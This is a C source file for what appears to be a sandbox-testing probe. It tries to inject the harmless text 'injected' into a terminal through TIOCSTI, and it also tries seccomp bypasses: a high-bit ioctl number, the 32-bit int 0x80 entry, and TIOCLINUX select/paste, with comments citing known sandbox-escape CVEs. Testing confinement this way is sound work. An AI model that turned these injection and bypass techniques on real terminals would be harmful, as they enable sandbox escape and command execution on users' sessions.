/*
 * inject [PATH...] - says which devices descriptors 0-2 are, then tries to push the text "injected" into them
 * and into the terminals named, as CVE-2017-5226, CVE-2019-7303 and CVE-2023-28100 did. A line each:
 * "fd N rdev" and "NAME TIOCSTI ok|error". Pushed text is taken back by nobody: look at the terminal.
 */
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { LINUX_PASTE = 3, LINUX_SELECT = 2, INT80_IOCTL = 54 };

static void say(const char *name, const char *call, long r)
{
	printf("%s %s %s\n", name, call, r < 0 ? strerror(errno) : "ok");
}

/* The number with a bit beyond the 32 that the kernel looks at: a filter that compares 64 lets it pass. */
static long push(int fd, unsigned long high)
{
	static const char text[] = "injected";
	long r = 0;

	for (size_t i = 0; text[i] && r >= 0; i++)
		r = syscall(SYS_ioctl, fd, (unsigned long)TIOCSTI | high, text + i);
	return r;
}

#if defined(__x86_64__)
static sigjmp_buf no_entry;

static void faulted(int sig)
{
	(void)sig;
	siglongjmp(no_entry, 1);
}
#endif

/* By the entry of 32-bit programs, which has a table of its own. ENOSYS where the machine has no such entry:
 * the instruction faults there. */
static long push_32(int fd)
{
#if defined(__x86_64__)
	static char text[] __attribute__((section(".data"))) = "3";
	long r = INT80_IOCTL;

	if ((unsigned long)(void *)text >> 32) {
		errno = EFAULT; /* no address that such a program could name */
		return -1;
	}
	signal(SIGSEGV, faulted);
	if (sigsetjmp(no_entry, 1)) {
		errno = ENOSYS;
		return -1;
	}
	__asm__ volatile("int $0x80"
			 : "+a"(r)
			 : "b"(fd), "c"(TIOCSTI), "d"(text)
			 : "memory", "r8", "r9", "r10", "r11");
	errno = r < 0 ? (int)-r : 0;
	return r < 0 ? -1 : 0;
#else
	(void)fd;
	errno = ENOSYS;
	return -1;
#endif
}

static void attack(const char *name, int fd)
{
	char paste = LINUX_PASTE;
	struct {
		char what;
		unsigned short pos[5];
	} __attribute__((packed)) select = {LINUX_SELECT, {1, 1, 10, 1, 0}};

	say(name, "TIOCSTI", push(fd, 0));
	say(name, "TIOCSTI-high", push(fd, 1UL << 32));
	say(name, "TIOCSTI-32", push_32(fd));
	say(name, "TIOCLINUX-select", ioctl(fd, TIOCLINUX, &select));
	say(name, "TIOCLINUX-paste", ioctl(fd, TIOCLINUX, &paste));
}

int main(int argc, char **argv)
{
	static const char *const name[] = {"fd0", "fd1", "fd2"};
	struct stat st;

	for (int fd = 0; fd <= 2; fd++)
		if (fstat(fd, &st) == 0)
			printf("fd %d %s %lx:%lx\n", fd, S_ISCHR(st.st_mode) ? "device" : "other",
			       (unsigned long)st.st_dev, (unsigned long)st.st_rdev);
	for (int fd = 0; fd <= 2; fd++)
		attack(name[fd], fd);
	for (int i = 1; i < argc; i++) {
		int fd = open(argv[i], O_RDWR | O_NOCTTY);

		if (fd < 0)
			say(argv[i], "open", -1);
		else
			attack(argv[i], fd);
	}
	return fflush(stdout) != 0;
}
